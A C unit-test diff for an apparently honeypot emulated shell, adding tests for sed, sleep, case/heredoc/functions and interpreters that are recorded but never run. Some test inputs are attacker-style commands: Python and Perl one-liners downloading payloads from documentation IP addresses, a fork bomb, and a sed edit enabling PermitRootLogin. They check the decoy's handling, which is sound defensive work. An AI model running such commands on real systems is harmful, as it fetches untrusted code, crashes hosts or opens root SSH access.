@@ -4,6 +4,7 @@
 #include <string.h>
 
 #include "ap/err.h"
+#include "ap/limits.h"
 #include "harness.h"
 #include "sh.h"
 
@@ -284,6 +285,139 @@ TEST(fs_bytes_capped)
     sh_free(sh);
 }
 
+TEST(sed_one_liners)
+{
+    struct sh *sh = new_sh("root");
+    ASSERT(sh != NULL);
+    ASSERT_STR_EQ(run(sh, "echo hello world | sed 's/o/0/'"), "hell0 world\n");
+    ASSERT_STR_EQ(run(sh, "echo hello world | sed 's/o/0/g'"), "hell0 w0rld\n");
+    ASSERT_STR_EQ(run(sh, "echo aaa | sed 's/a/b/2'"), "aba\n");
+    ASSERT_STR_EQ(run(sh, "echo abc | sed -E 's/(a)(b)/\\2\\1[&]/'"),
+                  "ba[ab]c\n");
+    ASSERT_STR_EQ(run(sh, "echo abc | sed 's/\\(a\\)b/\\1X/'"), "aXc\n");
+    ASSERT_STR_EQ(run(sh, "echo ABC | sed 's/b/x/I'"), "AxC\n");
+    ASSERT_STR_EQ(run(sh, "echo /a/b | sed 's|/|_|g'"), "_a_b\n");
+    ASSERT_STR_EQ(run(sh, "printf '1\\n2\\n3\\n4\\n' | sed -n '2,3p'"),
+                  "2\n3\n");
+    ASSERT_STR_EQ(run(sh, "printf '1\\n2\\n3\\n' | sed '2d'"), "1\n3\n");
+    ASSERT_STR_EQ(run(sh, "printf '1\\n2\\n3\\n' | sed '$d'"), "1\n2\n");
+    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\na\\n' | sed -n '/a/p'"), "a\na\n");
+    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\nc\\n' | sed '/b/!d'"), "b\n");
+    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\n' | sed -e 's/a/x/' -e 's/b/y/'"),
+                  "x\ny\n");
+    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\n' | sed 's/a/x/;s/b/y/'"), "x\ny\n");
+    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\nc\\n' | sed 1q"), "a\n");
+    ASSERT_STR_EQ(run(sh, "echo abc | sed 'y/abc/xyz/'"), "xyz\n");
+    ASSERT_STR_EQ(run(sh, "printf 'a\\nb\\n' | sed -n '$='"), "2\n");
+    ASSERT_STR_EQ(run(sh, "echo a | sed 'a\\after'"), "a\nafter\n");
+    ASSERT_STR_EQ(run(sh, "echo a | sed 'i before'"), "before\na\n");
+    /* -i edits the session's file; the host's file system is never used */
+    run(sh, "echo 'PermitRootLogin no' > /tmp/c; sed -i 's/no/yes/' /tmp/c");
+    ASSERT_STR_EQ(run(sh, "cat /tmp/c"), "PermitRootLogin yes\n");
+    ASSERT_STR_EQ(run(sh, "sed -i.bak -e 's/yes/maybe/' /tmp/c; cat /tmp/c"),
+                  "PermitRootLogin maybe\n");
+    run(sh, "sed 's/a/b' /tmp/c");
+    ASSERT(strstr(run(sh, "sed 's/a/b' /tmp/c 2>&1"),
+                  "unterminated `s' command") != NULL);
+    ASSERT(strstr(run(sh, "echo x | sed 'k' 2>&1"), "unknown command") != NULL);
+    ASSERT(strstr(run(sh, "sed 's/a/b/' /nonexist 2>&1"),
+                  "sed: can't read /nonexist: No such file or directory") != NULL);
+    /* back-references in a pattern are refused, never matched */
+    ASSERT(strstr(run(sh, "echo aa | sed 's/\\(a\\)\\1/x/' 2>&1"),
+                  "Invalid back reference") != NULL);
+    ASSERT(strstr(run(sh, "sed --version"), "GNU sed") != NULL);
+    sh_free(sh);
+}
+
+TEST(interpreters_record_never_run)
+{
+    struct sh *sh = new_sh("root");
+    ASSERT(sh != NULL);
+    ASSERT_STR_EQ(run(sh, "python3 -V"), "Python 3.10.12\n");
+    ASSERT_STR_EQ(run(sh, "python3 -c 'print(\"ok-123\")'"), "ok-123\n");
+    ASSERT_STR_EQ(run(sh, "python3 -c 'import os; os.system(\"id\")'"), "");
+    ASSERT_EQ(sh->status, 0);
+    ASSERT_STR_EQ(run(sh, "perl -e 'print \"hi\\n\"'"), "hi\n");
+    ASSERT_STR_EQ(run(sh, "perl -e 'print \"$x\"'"), "");
+    ASSERT(strstr(run(sh, "perl -v"), "This is perl 5, version 34") != NULL);
+    ASSERT(strstr(run(sh, "python3 /tmp/none.py 2>&1"),
+                  "python3: can't open file '/tmp/none.py': [Errno 2] No "
+                  "such file or directory") != NULL);
+    ASSERT_EQ(sh->status, 2);
+    events[0] = '\0';
+    run(sh, "python3 -c \"import urllib.request as u; "
+            "u.urlretrieve('http://198.51.100.3/x.bin', '/tmp/x')\"");
+    run(sh, "perl -e 'use LWP::Simple; getstore(\"https://198.51.100.4/y\", "
+            "\"y\")'");
+    ASSERT_STR_EQ(events, "download http://198.51.100.3/x.bin -\n"
+                          "download https://198.51.100.4/y -\n");
+    ASSERT_STR_EQ(run(sh, "echo 'print(\"piped\")' | python3"), "piped\n");
+    ASSERT_STR_EQ(run(sh, "which python3 perl sed"),
+                  "/usr/bin/python3\n/usr/bin/perl\n/usr/bin/sed\n");
+    sh_free(sh);
+}
+
+TEST(sleep_asks_for_a_wait)
+{
+    struct sh *sh = new_sh("root");
+    ASSERT(sh != NULL);
+    run(sh, "sleep 2");
+    ASSERT_EQ(sh->delay_ms, 2000);
+    run(sh, "sleep 0.5; sleep 1s");
+    ASSERT_EQ(sh->delay_ms, 1500);
+    run(sh, "sleep 1m 1h");
+    ASSERT_EQ(sh->delay_ms, AP_LIMIT_SH_SLEEP_MS);
+    ASSERT(strstr(run(sh, "sleep x 2>&1"), "sleep: invalid time interval")
+           != NULL);
+    ASSERT_EQ(sh->status, 1);
+    ASSERT_EQ(sh->delay_ms, 0);
+    sh_free(sh);
+}
+
+TEST(case_heredoc_functions)
+{
+    struct sh *sh = new_sh("root");
+    ASSERT(sh != NULL);
+    ASSERT_STR_EQ(run(sh, "A=x86_64; case $A in arm*) echo arm;; x86*|i?86) "
+                          "echo intel;; *) echo other;; esac"),
+                  "intel\n");
+    ASSERT_STR_EQ(run(sh, "case foo in (bar) echo b;; (f*) echo f; echo g;; "
+                          "esac"),
+                  "f\ng\n");
+    ASSERT_STR_EQ(run(sh, "case z in a) echo a;; esac; echo $?"), "0\n");
+    ASSERT_STR_EQ(run(sh, "case x in\n x)\n  echo multi\n  ;;\nesac"),
+                  "multi\n");
+    ASSERT_STR_EQ(run(sh, "case \"$(uname -m)\" in x86_64) echo ok;; esac"),
+                  "ok\n");
+    /* here-documents: expanded, quoted (literal), <<- strips tabs */
+    ASSERT_STR_EQ(run(sh, "N=7; cat <<EOF\nn=$N \"q\" $((N+1))\nEOF"),
+                  "n=7 \"q\" 8\n");
+    ASSERT_STR_EQ(run(sh, "cat <<'EOF'\n$HOME `x`\nEOF\necho after"),
+                  "$HOME `x`\nafter\n");
+    ASSERT_STR_EQ(run(sh, "cat <<-END\n\t\tindented\n\tEND"), "indented\n");
+    run(sh, "cat > /tmp/h.sh << EOF\n#!/bin/sh\necho from-script\nEOF");
+    ASSERT_STR_EQ(run(sh, "cat /tmp/h.sh"), "#!/bin/sh\necho from-script\n");
+    ASSERT_STR_EQ(run(sh, "cat <<A; cat <<B\none\nA\ntwo\nB"), "one\ntwo\n");
+    ASSERT_STR_EQ(run(sh, "wc -l <<X | tr -d ' '\na\nb\nX"), "2\n");
+    /* functions, with arguments; a redefinition replaces; nesting ends */
+    ASSERT_STR_EQ(run(sh, "f() { echo \"in f: $1 $2 ($#)\"; }; f a b"),
+                  "in f: a b (2)\n");
+    ASSERT_STR_EQ(run(sh, "f x"), "in f: x  (1)\n");
+    ASSERT_STR_EQ(run(sh, "function g { echo g$1; }; g 1; g 2"), "g1\ng2\n");
+    ASSERT_STR_EQ(run(sh, "f() { echo new; }; f"), "new\n");
+    ASSERT_STR_EQ(run(sh, "echo $1 $#"), "0\n");
+    ASSERT_STR_EQ(run(sh, "uname() { echo fake; }; uname"), "fake\n");
+    ASSERT(strstr(run(sh, ":(){ :|:& };:"), "fork: retry") != NULL);
+    ASSERT_STR_EQ(run(sh, "echo still-here"), "still-here\n");
+    /* incomplete constructs ask for more input */
+    ASSERT_EQ(sh_complete("case a in", 9), 0);
+    ASSERT_EQ(sh_complete("cat <<EOF\nabc", 13), 0);
+    ASSERT_EQ(sh_complete("cat <<EOF", 9), 0);
+    ASSERT_EQ(sh_complete("f() {", 5), 0);
+    ASSERT(sh_complete("case a in a) echo;; esac", 24) > 0);
+    sh_free(sh);
+}
+
 int
 main(void)
 {
@@ -298,5 +432,9 @@ main(void)
     RUN(mirai_probe);
     RUN(syntax_error_reported);
     RUN(fs_bytes_capped);
+    RUN(sed_one_liners);
+    RUN(interpreters_record_never_run);
+    RUN(sleep_asks_for_a_wait);
+    RUN(case_heredoc_functions);
     return DONE();
 }
